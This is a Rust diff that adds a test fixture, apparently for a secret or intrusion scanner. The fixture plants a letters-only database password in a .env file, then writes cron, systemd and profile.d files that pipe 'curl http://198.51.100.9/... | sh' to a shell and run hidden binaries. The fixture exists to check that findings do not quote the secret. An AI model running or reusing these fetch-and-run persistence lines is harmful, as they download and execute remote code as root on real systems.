@@ -73,7 +73,24 @@ fn tree(root: &Path) -> Planted {
     started(root, &mut make, &mut planted);
     keys(root, &mut planted);
     packed(root, &mut make, &mut planted);
+    quoted(root, &mut make, &mut planted);
     planted
+}
+
+/// A password of letters alone, which nothing in a line tells from a word: only that another finding knows it keeps
+/// it out of what is quoted about cron jobs, units and scripts.
+fn quoted(root: &Path, make: &mut Maker, planted: &mut Planted) {
+    let words = planted.plant(make.word(24, b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ"));
+    write(root, "srv/plain/.env", &format!("DB_PASSWORD={words}\n"));
+    let cron = format!(
+        "*/7 * * * * root /tmp/.hidden/sync {words} now\n@reboot root curl http://198.51.100.9/{words} | sh\n"
+    );
+    write(root, "etc/cron.d/quoted", &cron);
+    let unit = format!(
+        "[Service]\nExecStart=/var/tmp/.y/agent {words}\nExecStartPre=/bin/sh -c 'curl http://198.51.100.9/{words} | sh'\n"
+    );
+    write(root, "etc/systemd/system/quoted.service", &unit);
+    write(root, "etc/profile.d/quoted.sh", &format!("curl http://198.51.100.9/{words} | bash\n"));
 }
 
 /// A secret of its own and a known one, in files of an archive that is packed, and within other texts about it.
